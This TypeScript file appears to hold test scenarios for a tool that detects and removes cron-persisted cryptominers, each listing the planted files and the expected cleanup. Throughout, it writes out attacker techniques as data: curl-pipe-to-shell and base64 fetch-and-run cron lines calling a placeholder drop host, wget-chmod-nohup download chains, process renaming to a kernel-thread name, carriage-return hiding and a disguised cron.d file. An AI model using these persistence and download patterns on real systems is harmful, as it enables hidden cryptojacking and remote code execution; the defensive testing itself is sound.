import type { Scenario } from './scenario.ts';
import { addCron, dropHost, minerWords } from './words.ts';

const encoded = Buffer.from(`curl -fsSL http://${dropHost}/i.sh|sh\n`).toString('base64');

const miner = (
  path: string,
  lines: readonly string[],
  more: Partial<Scenario> = {},
): Omit<Scenario, 'name' | 'report'> => ({
  images: [path],
  start: `${addCron('root', lines)}\nrun ${path}`,
  runs: [path],
  truth: {
    verdict: ['confirmed'],
    ticked: { kill: [path], delete: [path], cron: lines },
    bystanders: [],
    ending: 'cleaned',
  },
  ...more,
});

/** The many ways in which a cron line starts a miner. */
export const cron: readonly Scenario[] = [
  {
    name: 'a cron line with a carriage return before a remark',
    report: 'Hides from cat; fetched from a public bare address without TLS.',
    ...miner('/tmp/.d/xm', [`* * * * * curl -fsSL http://${dropHost}/i.sh|sh;\r# nothing to see here`]),
  },
  {
    name: 'a cron line that asks for the miner’s name first',
    report: '`pgrep -f NAME || curl … | sh`.',
    ...miner('/tmp/.d/kdevtmpfsi', [
      `* * * * * pgrep -f kdevtmpfsi >/dev/null || curl -fsSL http://${dropHost}/x.sh | sh`,
    ]),
  },
  {
    name: 'a cron line that decodes and runs',
    report: 'base64 one-liners of every family.',
    ...miner('/var/tmp/.e/dbused', [
      `*/15 * * * * echo ${encoded} | base64 -d | sh`,
      '*/20 * * * * /var/tmp/.e/dbused',
    ]),
  },
  {
    name: 'a cron line that goes to the folder first',
    report: '`cd D && ./m`.',
    ...miner('/dev/shm/.u/m', ['*/3 * * * * cd /dev/shm/.u && ./m >/dev/null 2>&1']),
  },
  {
    name: 'a cron line with a variable',
    report: '`D=…; $D/m`.',
    ...miner('/var/tmp/.z/kauditd0', [
      '*/5 * * * * D=/var/tmp/.z; $D/kauditd0 >/dev/null 2>&1',
      `@reboot X=kauditd0; nohup "/var/tmp/.z/$X" ${minerWords} &`,
    ]),
  },
  {
    name: 'a cron line that downloads, marks and starts',
    report: '`wget -O F U && chmod +x F && nohup F &`.',
    ...miner('/tmp/.q/sysd', [
      `*/9 * * * * wget -q -O /tmp/.q/sysd http://${dropHost}/sysd && chmod +x /tmp/.q/sysd && nohup /tmp/.q/sysd >/dev/null 2>&1 &`,
    ]),
  },
  {
    name: 'a cron line that starts it under another name',
    report: '`exec -a` with the name of a kernel thread.',
    images: ['/var/tmp/.k/x'],
    start: `${addCron('root', ['@reboot bash -c \'exec -a "[kworker/0:1]" /var/tmp/.k/x\''])}
run bash -c 'exec -a "[kworker/0:1]" /var/tmp/.k/x'`,
    runs: ['/var/tmp/.k/x'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/var/tmp/.k/x'],
        delete: ['/var/tmp/.k/x'],
        cron: ['@reboot bash -c \'exec -a "[kworker/0:1]" /var/tmp/.k/x\''],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'a script with a list of download hosts',
    report: '`for h in A B; do curl $h … && chmod +x && nohup … & done`, run by cron.',
    images: ['/tmp/.f/m'],
    files: {
      '/tmp/.f/get.sh': `#!/bin/sh
pgrep -x m >/dev/null && exit 0
for h in ${dropHost} 203.0.113.21:8443; do
  curl -fsSL http://$h/m -o /tmp/.f/m.new && mv /tmp/.f/m.new /tmp/.f/m && chmod +x /tmp/.f/m && nohup /tmp/.f/m >/dev/null 2>&1 &
done
`,
    },
    start: `${addCron('root', ['*/6 * * * * sh /tmp/.f/get.sh >/dev/null 2>&1'])}\nrun /tmp/.f/m`,
    runs: ['/tmp/.f/m'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/tmp/.f/m'],
        delete: ['/tmp/.f/get.sh', '/tmp/.f/m'],
        cron: ['*/6 * * * * sh /tmp/.f/get.sh >/dev/null 2>&1'],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'a file in cron.d of which every line is the attacker’s',
    report: 'It goes whole: no empty file stays behind.',
    images: ['/usr/lib/.cache/udevs'],
    files: {
      '/etc/cron.d/0systemd-update': `SHELL=/bin/sh
PATH=/usr/bin:/bin
# system update, do not remove
*/2 * * * * root /usr/lib/.cache/udevs >/dev/null 2>&1
@reboot root /usr/lib/.cache/udevs >/dev/null 2>&1
`,
    },
    start: 'run /usr/lib/.cache/udevs',
    runs: ['/usr/lib/.cache/udevs'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/usr/lib/.cache/udevs'],
        delete: ['/usr/lib/.cache/udevs'],
        cron: ['/etc/cron.d/0systemd-update'],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'a path through a linked folder',
    report: '/lib is /usr/lib on most hosts, and nobody writes the longer one.',
    ...miner('/usr/lib/.cache/udevs', ['*/2 * * * * /lib/.cache/udevs >/dev/null 2>&1']),
  },
  {
    name: 'a service account’s crontab',
    report: 'Web shells have no root: www-data’s spool, a file among the uploads.',
    images: [{ path: '/var/www/html/uploads/cache.php.bin', owner: 'www-data' }],
    start: `${addCron('www-data', ['*/4 * * * * /var/www/html/uploads/cache.php.bin >/dev/null 2>&1'])}
as www-data /var/www/html/uploads/cache.php.bin`,
    runs: ['/var/www/html/uploads/cache.php.bin'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/var/www/html/uploads/cache.php.bin'],
        delete: ['/var/www/html/uploads/cache.php.bin'],
        cron: ['*/4 * * * * /var/www/html/uploads/cache.php.bin >/dev/null 2>&1'],
      },
      bystanders: ['/var/www/html/index.html'],
      ending: 'cleaned',
    },
  },
];
